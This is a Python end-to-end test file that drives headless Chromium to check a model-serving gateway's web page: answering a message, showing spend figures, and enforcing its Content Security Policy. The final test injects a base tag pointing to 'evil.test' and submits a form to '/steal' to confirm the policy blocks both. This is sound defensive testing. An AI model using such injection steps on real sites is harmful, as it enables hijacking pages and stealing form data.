"""The page at `/` in a real Chromium: a message is sent, its answer streams in, and its cost is told."""

from __future__ import annotations

import asyncio
import json
import shutil
import socket
from collections.abc import AsyncIterator
from contextlib import asynccontextmanager
from pathlib import Path
from typing import Any

import aiohttp
import pytest

from tests.e2e.gateway import command, variables_of
from tests.e2e.process import START_SECONDS
from tests.e2e.test_gateway_contract import opened_stage
from tests.vllm_service.api.service import dependencies, served, statuses
from tests.waiting import until_seen
from vllm_service.domain.cost_basis import CostBasis
from vllm_service.domain.spend import ProviderSpend, SpendLine, SpendPart
from vllm_service.domain.status import DaySpend, SpentState

CHROMIUM = shutil.which("chromium") or shutil.which("chromium-browser") or shutil.which("google-chrome")

pytestmark = pytest.mark.skipif(CHROMIUM is None, reason="no Chromium is installed: nothing to test with")


#: Keeps what the page's own policy keeps it from doing.
VIOLATIONS = """window.violations = [];
document.addEventListener("securitypolicyviolation", event => violations.push(event.violatedDirective));"""


class Page:
    """A tab, by Chromium's own protocol."""

    def __init__(self, socket: aiohttp.ClientWebSocketResponse) -> None:
        self._socket = socket
        self._calls = 0

    async def call(self, method: str, **parameters: Any) -> Any:
        self._calls += 1
        await self._socket.send_json({"id": self._calls, "method": method, "params": parameters})
        async for message in self._socket:
            document = message.json()
            if document.get("id") == self._calls:
                return document["result"]
        raise AssertionError("Chromium has left")

    async def value_of(self, expression: str) -> Any:
        result = await self.call("Runtime.evaluate", expression=expression)
        return result["result"].get("value")

    async def until(self, expression: str) -> Any:
        """The expression's value as soon as it is true."""
        return await until_seen(lambda: self.value_of(expression), START_SECONDS)


@asynccontextmanager
async def opened(url: str, profile: Path) -> AsyncIterator[Page]:
    with socket.socket() as probe:
        probe.bind(("127.0.0.1", 0))
        port = probe.getsockname()[1]
    options = (f"--remote-debugging-port={port}", f"--user-data-dir={profile}", "--headless=new", "--no-sandbox")
    assert CHROMIUM is not None
    nowhere = asyncio.subprocess.DEVNULL
    process = await asyncio.create_subprocess_exec(CHROMIUM, *options, "about:blank", stdout=nowhere, stderr=nowhere)
    try:
        async with aiohttp.ClientSession() as session, session.ws_connect(await _tab(session, port)) as connection:
            page = Page(connection)
            await page.call("Page.enable")
            await page.call("Page.addScriptToEvaluateOnNewDocument", source=VIOLATIONS)
            await page.call("Page.navigate", url=url)
            yield page
    finally:
        process.terminate()
        await process.wait()


async def _tab(session: aiohttp.ClientSession, port: int) -> str:
    async def found() -> str | None:
        try:
            async with session.get(f"http://127.0.0.1:{port}/json") as answer:
                tabs = json.loads(await answer.text())
        except aiohttp.ClientError:
            return None
        return next((str(tab["webSocketDebuggerUrl"]) for tab in tabs if tab["type"] == "page"), None)

    return str(await until_seen(found, START_SECONDS))


async def test_a_message_is_answered_and_its_cost_is_told(tmp_path: Path) -> None:
    async with opened_stage(tmp_path) as stage, opened(f"{stage.address}/", tmp_path / "profile") as page:
        refused = await page.until("document.querySelector('#answer.failed')?.textContent")
        assert "key" in refused.lower()
        await page.value_of(f"key.value = {json.dumps(stage.key)}; key.dispatchEvent(new Event('change'))")
        await page.until("model.options.length")
        await page.value_of("send.click()")
        await page.until("facts.children.length")
        assert await page.value_of("answer.textContent.split(' ').length") > 10
        facts = await page.value_of("facts.innerText")
        assert "hosted" in facts
        assert stage.key not in await page.value_of("document.body.innerText + location.href")
        assert await page.value_of("live.hidden"), "figures of all organisations are not for a caller"
        assert await page.value_of("violations.join()") == ""


async def test_a_day_with_nine_tenths_of_idle_seconds_shows_it_at_once(tmp_path: Path) -> None:
    parts = {SpendPart.COLD_START: 4, SpendPart.EXECUTION: 6, SpendPart.IDLE: 90}
    lines = tuple(SpendLine(part, CostBasis.BOOKED, percent * 10**10) for part, percent in parts.items())
    volume = SpendLine(SpendPart.VOLUME, CostBasis.BILLED, 25 * 10**10)
    today = DaySpend("today", ProviderSpend("runpod", 20_759, (*lines, volume), baseline_picousd=3 * 10**12))
    with served(dependencies(statuses(SpentState((today,))))) as address:
        async with opened(f"{address}/", tmp_path / "profile") as page:
            await page.until("!live.hidden && sums.children.length")
            figures = " ".join((await page.value_of("sums.innerText")).split())
    assert "Spent today: billed 20 %, booked 80 % $1.2500" in figures
    assert "Workers today $1.0000" in figures
    assert "Their seconds today cold start 4 %, execution 6 %, idle 90 %" in figures
    assert "volume today $0.2500 Baseline today $3.0000 Saved today $1.7500 (58 %)" in figures


async def test_a_viewer_sees_the_figures_and_the_policy_holds_what_the_page_does_not_need(tmp_path: Path) -> None:
    async with opened_stage(tmp_path) as stage, opened(f"{stage.address}/", tmp_path / "profile") as page:
        viewer = await command("keys", "create", "acme", "--role", "viewer", **variables_of(stage.gateway.directory))
        refused = await page.until("document.querySelector('#answer.failed')?.textContent")
        assert refused == "This gateway needs a key: enter one above."
        await page.value_of(f"key.value = {json.dumps(viewer)}; key.dispatchEvent(new Event('change'))")
        await page.until("!live.hidden && sums.children.length")
        assert "Answers since the start" in await page.value_of("sums.innerText")
        assert await page.value_of("violations.join()") == ""
        await page.value_of(
            "document.head.append(Object.assign(document.createElement('base'), {href: '//evil.test'}))"
        )
        await page.value_of("HTMLFormElement.prototype.submit.call(Object.assign($('ask'), {action: '/steal'}))")
        await page.until("violations.includes('base-uri') && violations.includes('form-action')")
